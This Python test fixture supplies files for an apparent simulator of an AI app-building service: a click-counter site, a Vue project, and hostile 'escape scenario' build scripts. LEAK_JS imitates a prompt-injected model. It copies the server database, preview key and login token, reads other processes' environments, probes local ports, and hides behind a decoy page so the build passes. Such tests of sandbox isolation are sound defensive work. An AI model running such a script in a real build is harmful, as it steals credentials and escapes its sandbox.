"""The files the scenarios write, as the model would send them: a click-counter site (as three
files or one), a Vite + Vue 3 project, and the hostile build scripts of the escape scenarios."""

from __future__ import annotations

import json
from collections.abc import Mapping
from types import MappingProxyType

INDEX_HTML = """<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>Click Counter</title>
  <link rel="stylesheet" href="style.css">
</head>
<body>
  <main class="card">
    <h1>Click Counter</h1>
    <p>A tiny static site: press the button and watch the number grow.</p>
    <p class="count">Clicks: <span id="count">0</span></p>
    <button id="increment" type="button">Click me</button>
    <button id="reset" type="button" class="secondary">Reset</button>
  </main>
  <script src="script.js"></script>
</body>
</html>
"""

STYLE_CSS = """* {
  box-sizing: border-box;
}

body {
  margin: 0;
  min-height: 100vh;
  display: grid;
  place-items: center;
  font-family: system-ui, sans-serif;
  background: #f3f4f6;
  color: #111827;
}

.card {
  padding: 2rem 3rem;
  border-radius: 12px;
  background: #ffffff;
  box-shadow: 0 10px 30px rgba(0, 0, 0, 0.08);
  text-align: center;
}

.count {
  font-size: 1.5rem;
}

button {
  margin: 0 0.25rem;
  padding: 0.6rem 1.2rem;
  border: none;
  border-radius: 8px;
  background: #2563eb;
  color: #ffffff;
  font-size: 1rem;
  cursor: pointer;
}

button.secondary {
  background: #6b7280;
}
"""

SCRIPT_JS = """const countEl = document.getElementById("count");
let count = 0;

function render() {
  countEl.textContent = String(count);
}

document.getElementById("increment").addEventListener("click", () => {
  count += 1;
  render();
});

document.getElementById("reset").addEventListener("click", () => {
  count = 0;
  render();
});

render();
"""


def inline_page() -> str:
    """The counter page as one self-contained HTML file (style and script inlined)."""
    page = INDEX_HTML.replace('  <link rel="stylesheet" href="style.css">\n', f"  <style>\n{STYLE_CSS}  </style>\n")
    return page.replace('  <script src="script.js"></script>\n', f"  <script>\n{SCRIPT_JS}  </script>\n")


VUE_FILES: Mapping[str, str] = MappingProxyType(
    {
        "package.json": json.dumps(
            {
                "name": "runforge-counter",
                "private": True,
                "version": "0.0.0",
                "type": "module",
                "scripts": {"dev": "vite", "build": "vite build", "preview": "vite preview"},
                "dependencies": {"vue": "^3.5.45"},
                "devDependencies": {"@vitejs/plugin-vue": "^6.0.11", "vite": "^8.3.8"},
            },
            indent=2,
        )
        + "\n",
        "vite.config.js": (
            "import { defineConfig } from 'vite'\nimport vue from '@vitejs/plugin-vue'\n\n"
            "// Relative asset URLs: the site is served under /apps/<id>/preview/.\n"
            "export default defineConfig({ base: './', plugins: [vue()] })\n"
        ),
        "index.html": (
            '<!doctype html>\n<html lang="en">\n<head>\n  <meta charset="utf-8">\n'
            '  <meta name="viewport" content="width=device-width, initial-scale=1">\n'
            "  <title>Click Counter</title>\n</head>\n<body>\n"
            '  <div id="app"></div>\n  <script type="module" src="/src/main.js"></script>\n</body>\n</html>\n'
        ),
        "src/main.js": "import { createApp } from 'vue'\nimport App from './App.vue'\n\ncreateApp(App).mount('#app')\n",
        "src/App.vue": (
            "<script setup>\nimport { ref } from 'vue'\n\nconst count = ref(0)\n</script>\n\n"
            '<template>\n  <main class="card">\n    <h1>Click Counter</h1>\n'
            '    <p class="count">Clicks: {{ count }}</p>\n'
            '    <button type="button" @click="count++">Click me</button>\n'
            '    <button type="button" @click="count = 0">Reset</button>\n'
            "  </main>\n</template>\n\n<style>\n.card { font-family: system-ui, sans-serif; text-align: center; }\n"
            ".count { font-size: 1.5rem; }\n</style>\n"
        ),
    }
)


# A build script that tries what a prompt-injected model would (issue 16's reproduction): copy the
# server's database, preview-link secret and login token into the workspace, read every process's
# environment and working directory it can see, list the other apps, and connect to every port
# listening on the host. It writes what it got to leak-report.json, then a site, so the build passes.
LEAK_JS = r"""
const fs = require('fs');
const net = require('net');
const path = require('path');
const report = { read: {}, listed: {}, connected: [], fds: [] };
function steal(file) {
  try {
    const data = fs.readFileSync(file);
    report.read[file] = data.toString('latin1').slice(0, 2000);
    fs.writeFileSync('stolen-' + file.replace(/[^\w.-]/g, '_'), data);
  } catch (error) {
    report.read[file] = 'ERR ' + error.code;
  }
}
['../../runforge.db', '../../preview-key', '../../local-token'].forEach(steal);
for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  steal(`/proc/${pid}/environ`);
  try { report.listed[`/proc/${pid}/cwd`] = fs.readdirSync(`/proc/${pid}/cwd`).join(','); } catch (error) {}
}
try { report.listed['..'] = fs.readdirSync('..').join(','); } catch (error) { report.listed['..'] = error.code; }
for (const fd of fs.readdirSync('/proc/self/fd')) {
  try { report.fds.push(`${fd} -> ${fs.readlinkSync(`/proc/self/fd/${fd}`)}`); } catch (error) {}
}
const ports = new Set([5432, 6379, 8000]);
for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
  try {
    for (const line of fs.readFileSync(table, 'utf8').split('\n').slice(1)) {
      const columns = line.trim().split(/\s+/);
      if (columns[3] === '0A') ports.add(parseInt(columns[1].split(':').pop(), 16));
    }
  } catch (error) {}
}
const tries = [...ports].map((port) => new Promise((resolve) => {
  const socket = net.connect({ host: '127.0.0.1', port, timeout: 2000 });
  socket.on('connect', () => { report.connected.push(port); socket.destroy(); resolve(); });
  socket.on('timeout', () => { socket.destroy(); resolve(); });
  socket.on('error', () => resolve());
}));
Promise.all(tries).then(() => {
  fs.writeFileSync('leak-report.json', JSON.stringify(report, null, 1));
  const out = process.argv[process.argv.indexOf('--outDir') + 1];
  fs.mkdirSync(out, { recursive: true });
  fs.writeFileSync(path.join(out, 'index.html'), '<h1>Nothing to see here</h1>');
});
"""
LEAK_PACKAGE = json.dumps({"name": "innocent-site", "private": True, "scripts": {"build": "node leak.js"}}, indent=2)


# A Vite config that prints a line and then waits for ever: a build a stop is sure to land in.
WAITING_VITE_CONFIG = """\
// Written by the simulator's slow_build scenario: the build waits here until it is stopped.
console.log("slow build: waiting to be stopped")
await new Promise(() => setInterval(() => {}, 60_000))
"""
